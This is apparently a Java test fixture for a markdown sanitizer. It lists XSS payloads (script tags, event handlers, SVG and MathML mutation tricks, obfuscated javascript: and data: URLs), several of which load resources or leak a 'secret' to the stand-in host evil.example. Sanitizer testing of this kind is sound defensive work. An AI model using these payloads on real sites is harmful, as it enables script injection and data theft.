package io.pilcrow.testing;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;

/**
 * Words that would run, load or lead somewhere if they became markup. What runs calls {@code
 * boom()}, what loads asks {@code evil.example}. None has a brace or spans lines.
 */
public final class XssPayloads {
  private static final List<String> MARKUP =
      List.of(
          "<script>boom()</script>",
          "<script src=https://evil.example/x.js></script>",
          "<script type=module>boom()</script>",
          "<scr<script>ipt>boom()</scr</script>ipt>",
          "<img src=x onerror=boom()>",
          "<img/src/onerror=boom()>",
          "<img src=https://evil.example/p.png?q=secret>",
          "<img srcset=https://evil.example/p.png>",
          "<image href=https://evil.example/p.png>",
          "<picture><source srcset=https://evil.example/p><img></picture>",
          "<svg onload=boom()>",
          "<svg><script>boom()</script></svg>",
          "<svg><animate onbegin=boom() attributeName=x dur=1s>",
          "<svg><use href=https://evil.example/x.svg#a></svg>",
          "<svg><a xlink:href=javascript:boom()><text y=9>x</text></a></svg>",
          "<svg><foreignObject><iframe onload=boom()></iframe></foreignObject></svg>",
          "<math><mtext><table><mglyph><style><img src=x onerror=boom()>",
          "<math><a xlink:href=javascript:boom()>x</a></math>",
          "<iframe src=javascript:parent.boom()></iframe>",
          "<iframe srcdoc='<script>parent.boom()</script>'></iframe>",
          "<iframe src=https://evil.example/></iframe>",
          "<object data=https://evil.example/x></object>",
          "<object data=javascript:boom()></object>",
          "<embed src=https://evil.example/x>",
          "<video src=https://evil.example/v onerror=boom()></video>",
          "<video poster=https://evil.example/p></video>",
          "<audio src=x onerror=boom()></audio>",
          "<body onload=boom()>",
          "<details open ontoggle=boom()>x</details>",
          "<marquee onstart=boom()>x</marquee>",
          "<input autofocus onfocus=boom()>",
          "<select autofocus onfocus=boom()></select>",
          "<textarea autofocus onfocus=boom()></textarea>",
          "<button autofocus onfocus=boom()>x</button>",
          "<form action=https://evil.example/><button>x</button></form>",
          "<form><button formaction=javascript:boom()>x</button></form>",
          "<isindex action=javascript:boom()>",
          "<a href=javascript:boom()>x</a>",
          "<a href=https://evil.example/ ping=https://evil.example/p>x</a>",
          "<area href=javascript:boom()>",
          "<link rel=stylesheet href=https://evil.example/s.css>",
          "<link rel=prefetch href=https://evil.example/>",
          "<style>@import 'https://evil.example/s.css';</style>",
          "<div style=background:url(https://evil.example/b)>x</div>",
          "<div style='animation:x 1s' onanimationstart=boom()>x</div>",
          "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
          "<base href=https://evil.example/>",
          "<template><script>boom()</script></template>",
          "<noscript><p title='</noscript><img src=x onerror=boom()>'></noscript>",
          "<title></title><script>boom()</script>",
          "<textarea></textarea><script>boom()</script>",
          "<xmp></xmp><img src=x onerror=boom()>",
          "<!--><img src=x onerror=boom()>-->",
          "<![CDATA[><img src=x onerror=boom()>]]>",
          "<?xml-stylesheet href='https://evil.example/s.xsl'?>",
          "<p contenteditable onbeforeinput=boom() tabindex=1 onfocus=boom() autofocus>x</p>",
          "<table background=https://evil.example/b><td>x</table>",
          "<dialog open onclose=boom()>x</dialog>",
          "<custom-tag onpointerover=boom()>x</custom-tag>",
          "<pilcrow-ask server=https://evil.example position=inline></pilcrow-ask>");

  private static final List<String> ADDRESSES =
      List.of(
          "javascript:boom()",
          "JaVaScRiPt:boom()",
          "java\tscript:boom()",
          "\u0001javascript:boom()",
          "javascript\u000B:boom()",
          "javascript&colon;boom()",
          "&#106;avascript:boom()",
          "%6aavascript:boom()",
          "javascript://https://evil.example/%0aboom()",
          "vbscript:boom()",
          "data:text/html,<script>parent.boom()</script>",
          "data:text/html;base64,PHNjcmlwdD5ib29tKCk8L3NjcmlwdD4=",
          "data:image/svg+xml,<svg/onload=boom()>",
          "blob:https://evil.example/1",
          "file:///etc/passwd",
          "//evil.example/",
          "\\\\evil.example\\",
          "/\\evil.example/",
          "https:/evil.example",
          "ftp://evil.example/",
          "view-source:https://evil.example/",
          "intent://evil.example/#Intent;end",
          "https://evil.example/p.png?q=secret");

  private XssPayloads() {}

  /** All of them, in a stable order, each once. */
  public static List<String> all() {
    Set<String> all = new LinkedHashSet<>();
    for (String markup : MARKUP) {
      all.add(markup);
      all.add("\"'>" + markup);
      all.add(markup.toUpperCase(Locale.ROOT).replace("BOOM()", "boom()"));
    }
    for (String address : ADDRESSES) {
      all.add("[here](" + address + ")");
      all.add("![pixel](" + address + ")");
      all.add("<" + address + ">");
    }
    for (String markup : MARKUP.subList(0, 12)) {
      all.add("**" + markup + "**");
      all.add("`" + markup);
      all.add("| " + markup + " | x |");
      all.add("&lt;" + markup.substring(1));
    }
    return new ArrayList<>(all);
  }
}
